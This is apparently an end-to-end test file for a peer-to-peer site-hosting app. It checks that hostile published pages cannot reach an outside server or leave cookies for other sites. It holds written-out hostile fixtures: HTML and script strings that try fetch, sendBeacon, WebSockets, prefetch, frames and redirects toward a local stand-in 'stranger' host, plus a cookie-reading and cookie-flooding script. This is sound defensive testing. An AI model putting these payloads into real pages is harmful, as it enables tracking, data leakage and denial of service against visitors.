// A hostile site in an ordinary browser: whatever its pages try, nothing reaches anybody else's server.
import { once } from 'node:events';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { barriers } from '../axe';
import { launch, type Browser } from '../chromium';
import { run, start, type Program } from './program';
import { open } from './visit';
import { world, type World } from './world';

/** Somebody else's server: what was sent to it, and how often anybody connected. */
interface Stranger {
  server: Server;
  url: string;
  heard: string[];
  calls: number;
}

async function stranger(): Promise<Stranger> {
  const heard: string[] = [];
  const it: Stranger = { server: createServer(), url: '', heard, calls: 0 };
  it.server.on('connection', (socket) => {
    it.calls += 1;
    socket.on('data', (part) => heard.push(part.toString().split('\r\n')[0] ?? ''));
    socket.on('error', () => undefined);
  });
  it.server.listen(0, '127.0.0.1');
  await once(it.server, 'listening');
  it.url = `http://127.0.0.1:${String((it.server.address() as AddressInfo).port)}`;
  return it;
}

/** Everything that a page without scripts can try. */
const still = (to: string) => `<!doctype html><title>Evenings</title>
  <link rel="preconnect" href="${to}"><link rel="dns-prefetch" href="${to}"><link rel="prefetch" href="${to}/prefetch">
  <link rel="preload" as="image" href="${to}/preload"><link rel="stylesheet" href="${to}/style">
  <meta http-equiv="refresh" content="1;url=${to}/refresh"><base href="${to}/base/">
  <style>@import url(${to}/import); body { background: url(${to}/background) }</style>
  <h1>Evenings</h1><img src="${to}/img" srcset="${to}/srcset 2x"><video src="${to}/video" poster="${to}/poster"></video>
  <iframe src="${to}/iframe"></iframe><object data="${to}/object"></object><embed src="${to}/embed">
  <svg><image href="${to}/svg" width="9" height="9"/><use href="${to}/use#a"/></svg>
  <a id="out" href="${to}/link" ping="${to}/ping">out</a><form action="${to}/form"><button>send</button></form>
  <script>location = '${to}/script'</script><p onclick="1" onload="fetch('${to}/handler')">the end</p>`;

/** Everything that a script can try, but for what no policy forbids in an ordinary browser: preconnect and WebRTC. */
const acts = (to: string) => `
  const tries = [
    () => fetch('${to}/fetch', { mode: 'no-cors' }),
    () => navigator.sendBeacon('${to}/beacon', 'x'),
    () => { new Image().src = '${to}/image'; },
    () => new WebSocket('${to.replace('http', 'ws')}/socket'),
    () => new EventSource('${to}/events'),
    () => new Worker('${to}/worker.js'),
    () => navigator.serviceWorker.register('/sw.js'),
    () => open('${to}/open'),
    () => { top.location = '${to}/top'; },
    () => { const f = document.createElement('iframe'); f.src = '${to}/frame'; document.body.append(f); },
    () => { const f = document.createElement('form'); f.action = '${to}/form'; document.body.append(f); f.submit(); },
    () => { const s = document.createElement('script'); s.src = '${to}/script.js'; document.body.append(s); },
    () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${to}/prefetch'; document.head.append(l); },
    () => import('${to}/module.js'),
    () => parent.document.title,
    () => eval('1'),
  ];
  const went = [];
  for (const attempt of tries) {
    try { const what = attempt(); if (what && what.catch) what.catch(() => {}); } catch { went.push('refused'); }
  }
  console.log('tried ' + tries.length);
  setTimeout(() => { location = '${to}/location'; }, 300);`;

/** A picture that is a page with a head of its own, as soon as a browser goes there. */
const picture = (to: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">
  <link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="${to}"/><rect width="40" height="30"/></svg>`;

/** Tells which cookies it finds, and leaves as many and as long ones as it can, for every name that its own ends with. */
const remembers = `
  const found = document.cookie || 'nothing';
  const names = location.hostname.split('.');
  for (const at of names.keys())
    for (let each = 0; each < 200; each++)
      document.cookie = each + '=' + 'x'.repeat(4000) + '; Path=/; Domain=' + names.slice(at).join('.');
  document.getElementById('told').textContent = 'found ' + found + ', left ' + (document.cookie ? 'some' : 'nothing');`;

describe('a hostile site', () => {
  let machines: World;
  let leak: Stranger;
  let browser: Browser;
  let folder: string;
  const opened: Program[] = [];

  beforeAll(async () => {
    machines = await world();
    browser = await launch();
  });
  afterAll(async () => {
    await browser.close();
    await machines.end();
  });
  // Each attempt has sites and a stranger of its own: what an earlier one made or called says nothing of it.
  beforeEach(async () => {
    leak = await stranger();
    folder = await mkdtemp(join(tmpdir(), 'kinora-sites-'));
  });
  afterEach(async () => {
    for (const each of browser.context.pages()) await each.close();
    for (const each of opened.splice(0)) await each.end();
    leak.server.close();
    await rm(folder, { recursive: true, force: true });
  });

  /** Publishes these pages from a machine of their own and opens them there. */
  async function site(name: string, pages: Record<string, string>, more: string[] = []): Promise<Program> {
    const own = ['--data-dir', join(folder, name)];
    const made = await run(['site', 'create', name, '--contact', 'mailto:rights@example.org', ...own]);
    const place = join(folder, `${name}-pages`);
    await mkdir(place);
    for (const [path, text] of Object.entries(pages)) await writeFile(join(place, path), text);
    const near = [
      '--listen',
      '127.0.0.1:0',
      '--dht-bootstrap',
      machines.publisher.listens,
      '--no-lsd',
      ...own,
    ];
    await run(['site', 'publish', place, '--once', ...more, ...near]);
    const program = await start(['site', 'open', String(made['address']), ...near]);
    opened.push(program);
    return program;
  }

  it('without scripts shows its text and calls nobody', async () => {
    const shown = await site('still', { 'index.html': still(leak.url) });
    const page = await browser.page();
    await page.goto(shown.url);
    expect(new URL(page.url()).hostname).toBe('site.localhost');
    const inside = page.frameLocator('iframe');
    await inside.getByText('the end').waitFor();
    await inside.getByRole('button', { name: 'send' }).click();
    expect(await inside.locator('#out').innerText()).toBe(`out [${leak.url}/link]`);
    expect(
      await inside
        .locator('meta[http-equiv], base, link:not([rel=stylesheet]), script, iframe, object, embed')
        .count(),
    ).toBe(0);
    await page.waitForLoadState('networkidle');
    await inside.getByText('the end').waitFor();
    expect(leak.heard).toEqual([]);
    expect(leak.calls).toBe(0);
    await page.close();
  });

  it('without scripts shows a picture that could be a page as a picture', async () => {
    const pages = { 'index.html': '<img src="p.svg"><a href="p.svg">large</a>', 'p.svg': picture(leak.url) };
    const shown = await site('drawn', pages);
    const page = await browser.page();
    await page.goto(shown.url);
    const inside = page.frameLocator('iframe');
    const width = () => inside.locator('img').evaluate((img: HTMLImageElement) => img.naturalWidth);
    await expect.poll(width).toBe(40);
    const [answer] = await Promise.all([
      page.waitForResponse((one) => one.url().endsWith('/p.svg')),
      inside.getByRole('link', { name: 'large' }).click(),
    ]);
    expect(answer.headers()['content-type']).toBe('text/html; charset=utf-8');
    await inside.getByRole('img', { name: 'p.svg' }).waitFor();
    await expect.poll(width).toBe(40);
    expect(leak.calls).toBe(0);
    await page.close();
  });

  /** The page inside the frame. */
  function drawnIn(page: Page): Frame {
    const frame = page.frames().find((one) => one.url().includes('.site.localhost'));
    if (!frame) throw new Error('nothing is in the frame');
    return frame;
  }

  /** What axe says of the page inside the frame. Nothing runs there, so it is looked at in a page of its own. */
  async function barriersInside(page: Page, colorScheme: 'light' | 'dark'): Promise<string[]> {
    const frame = drawnIn(page);
    const rules = await frame.evaluate(() =>
      [...document.styleSheets]
        .flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText))
        .join('\n'),
    );
    expect(rules).toContain('--ground');
    const html = (await frame.content()).replace(
      /<link rel="stylesheet"[^>]*>/,
      () => `<style>${rules}</style>`,
    );
    const bare = await browser.page();
    await bare.emulateMedia({ colorScheme });
    await bare.setContent(html.replace(/src="\/[^"]*"/g, 'src="data:,"'));
    const found = await barriers(bare);
    await bare.close();
    return found;
  }

  it('of texts is drawn here, can be read by everybody, and calls nobody', async () => {
    const table = `|one|two|\n|-|-|\n|${'wide '.repeat(40)}|b|`;
    const pages = {
      'index.md': `# Evenings\n\n${still(leak.url)}\n\n![seen](${leak.url}/img) [out](${leak.url}/link)\n\n${table}\n`,
      'b.md': '## The General\n\n> quiet\n\n1. one\n2. two\n\n```\ncode\n```\n\n![A still](p.svg)',
      'p.svg': picture(leak.url),
    };
    for (const [scheme, palette] of [
      ['light', 'ember'],
      ['dark', 'sea'],
    ] as const) {
      const shown = await site(`texts-${scheme}`, pages, [
        '--markdown',
        '--palette',
        palette,
        '--language',
        'de',
      ]);
      const page = await browser.page();
      await page.emulateMedia({ colorScheme: scheme });
      await page.goto(shown.url);
      const inside = page.frameLocator('iframe');
      await inside.getByRole('heading', { name: 'Evenings', level: 1 }).waitFor();
      expect(
        await inside.locator('script, iframe, form, meta[http-equiv], base, video, object').count(),
      ).toBe(0);
      await inside.getByText('<script>location').waitFor();
      for (const width of [320, 1280, 1920]) {
        await page.setViewportSize({ width, height: 900 });
        const over = await drawnIn(page).evaluate(
          () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
        );
        expect(over, `${scheme} ${String(width)}`).toBe(0);
        const folder = process.env['KINORA_SCREENS'];
        if (folder) await page.screenshot({ path: `${folder}/texts-${scheme}-${String(width)}.png` });
      }
      expect(await barriersInside(page, scheme)).toEqual([]);
      await inside
        .getByRole('navigation', { name: 'Pages' })
        .getByRole('link', { name: 'The General' })
        .click();
      const drawn = inside.getByRole('img', { name: 'A still' });
      await expect.poll(() => drawn.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(40);
      expect(await barriersInside(page, scheme)).toEqual([]);
      await page.close();
    }
    expect(leak.calls).toBe(0);
  });

  it('with scripts asks first, and then reaches nobody but itself', async () => {
    const pages = {
      'index.html': '<p id="told">quiet</p><script src="a.js"></script>',
      'a.js': acts(leak.url),
    };
    const shown = await site('acting', pages, ['--scripts']);
    const page = await browser.page();
    await page.goto(shown.url);
    const inside = page.frameLocator('iframe');
    await inside.getByText('quiet').waitFor();
    await page.getByText('WebRTC').waitFor();
    // The last thing that its script tries is to go somewhere else: the browser says that the frame forbids it.
    const tried = page.waitForEvent('console', (message) => message.text() === 'tried 16');
    const stopped = page.waitForEvent('console', (message) => /frame-src http:/.test(message.text()));
    await page.getByRole('button', { name: 'Let its scripts run' }).click();
    await Promise.all([tried, stopped]);
    expect(new URL(page.url()).hostname).toBe('site.localhost');
    expect(leak.heard).toEqual([]);
    expect(browser.context.pages().every((each) => !each.url().startsWith(leak.url))).toBe(true);
    await page.close();
  });

  it('is left only by whoever has read where to, and wants to', async () => {
    const secret = `${leak.url.replace('http', 'https')}/secret`;
    const pages = {
      'index.html': '<p>quiet</p><script src="a.js"></script>',
      'a.js': `location = '/.leave?to=' + encodeURIComponent('${secret}');`,
      'plain.html': `<a href="${secret}">out</a>`,
    };
    const shown = await site('leading', pages, ['--scripts']);
    const page = await browser.page();
    await page.goto(`${shown.url}plain.html`);
    const inside = page.frameLocator('iframe');
    const calls = leak.calls;
    await inside.getByRole('link', { name: `out [${secret}]` }).click();
    await inside.getByText(secret, { exact: true }).waitFor();
    await inside.getByRole('link', { name: 'Back to the site' }).click();
    await inside.getByRole('link', { name: 'out' }).waitFor();

    // A script can lead here as well, and no further.
    await page.getByRole('button', { name: 'Let its scripts run' }).click();
    await inside.getByText(secret, { exact: true }).waitFor();
    expect(leak.calls).toBe(calls);
    await inside.getByRole('link', { name: 'Open it in a new tab' }).click();
    await expect.poll(() => leak.calls).toBeGreaterThan(calls);
    expect(new URL(page.url()).hostname).toBe('site.localhost');
    await page.close();
  });

  it('leaves nothing for another one, and shuts neither itself nor others with cookies', async () => {
    const pages = { 'index.html': '<p id="told">quiet</p><script src="a.js"></script>', 'a.js': remembers };
    const [one, other] = [await site('one', pages, ['--scripts']), await site('other', pages, ['--scripts'])];
    const told = async ({ url }: Program) => {
      const page = await browser.page();
      expect((await page.goto(url))?.status()).toBe(200);
      const agree = page.getByRole('button', { name: 'Let its scripts run' });
      const stop = page.getByRole('button', { name: 'Stop its scripts' });
      await agree.or(stop).waitFor();
      if (await agree.isVisible()) await agree.click();
      const found = await page.frameLocator('iframe').getByText('found').innerText();
      await page.close();
      return found;
    };
    for (const each of [one, other, one, other]) expect(await told(each)).toBe('found nothing, left some');
  });
});

/** A film of a channel that nobody has. */
const FILM = 'kinora:tkrq8zmwb8a3m9k15csu3q17qmfgqnp9dskbrg9uq1rydpyxp7qy.metropolis';

describe('a site that is here', () => {
  let machines: World;
  let folder: string;

  beforeEach(async () => {
    machines = await world();
    folder = await mkdtemp(join(tmpdir(), 'kinora-sites-'));
    await writeFile(join(folder, 'index.html'), `<h1>Evenings</h1><a href="${FILM}">Metropolis</a>`);
  });
  afterEach(async () => {
    await machines.end();
    await rm(folder, { recursive: true, force: true });
  });

  /** Asks a machine to do something, as its page does. */
  const tell = async (machine: Program, path: string, body: object) => {
    const headers = { authorization: `Bearer ${machine.token}`, 'content-type': 'application/json' };
    const answer = await fetch(machine.origin + path, {
      method: 'POST',
      headers,
      body: JSON.stringify(body),
    });
    return answer.text();
  };

  it('is opened from the page with its own link, and leads back to films', async () => {
    const { publisher } = machines;
    const made = await tell(publisher, '/api/v1/own-sites', {
      name: 'Silent evenings',
      contact: 'mailto:rights@example.org',
    });
    const { site } = JSON.parse(made) as { site: { id: string } };
    const published = await tell(publisher, `/api/v1/own-sites/${site.id}/publish`, { folder });
    expect(published).toContain('"published"');
    const visit = await open(publisher);
    await visit.page.getByRole('navigation', { name: 'Places' }).waitFor();
    await visit.page.evaluate(() => (location.hash = '#/sites'));
    const entry = visit.page.getByRole('listitem').filter({ hasText: 'Silent evenings' });
    await entry.getByRole('button', { name: 'Open', exact: true }).click();
    const [tab] = await Promise.all([
      visit.browser.context.waitForEvent('page'),
      entry.getByRole('link', { name: 'Open in a new tab' }).click(),
    ]);
    await tab.getByText('Silent evenings', { exact: true }).waitFor();
    const inside = tab.frameLocator('iframe');
    await inside.getByRole('heading', { name: 'Evenings' }).waitFor();
    await inside.getByRole('link', { name: 'Metropolis' }).click();
    await inside.getByText(FILM, { exact: true }).waitFor();
    const [film] = await Promise.all([
      visit.browser.context.waitForEvent('page'),
      inside.getByRole('link', { name: 'Open it in a new tab' }).click(),
    ]);
    await film.getByRole('heading', { level: 1, name: 'Follow this channel?' }).waitFor();
    await film.getByText('The film that you were sent opens').waitFor();
    await visit.end();
  });

  it('stays as it is under its reader, who is told of a newer version and asks for it', async () => {
    const { publisher, follower } = machines;
    const made = await tell(publisher, '/api/v1/own-sites', {
      name: 'Long evenings',
      contact: 'mailto:rights@example.org',
    });
    const { site } = JSON.parse(made) as { site: { id: string; address: string } };
    const publish = () => tell(publisher, `/api/v1/own-sites/${site.id}/publish`, { folder });
    expect(await publish()).toContain('"published"');
    const opened = JSON.parse(await tell(follower, '/api/v1/sites', { address: site.address })) as {
      url: string;
    };
    const browser = await launch();
    const page = await browser.page();
    await page.goto(opened.url);
    const heading = (name: string) => page.frameLocator('iframe').getByRole('heading', { name });
    await heading('Evenings').waitFor();
    const button = page.getByRole('button', { name: 'Show the newer version' });
    expect(await button.isVisible()).toBe(false);
    await writeFile(join(folder, 'index.html'), '<h1>Nights</h1>');
    expect(await publish()).toContain('"published"');
    await button.waitFor({ timeout: 150_000 });
    expect(await heading('Evenings').isVisible()).toBe(true);
    expect(await barriers(page)).toEqual([]);
    await button.click();
    await heading('Nights').waitFor();
    expect(await button.isVisible()).toBe(false);
    await browser.close();
  });
});
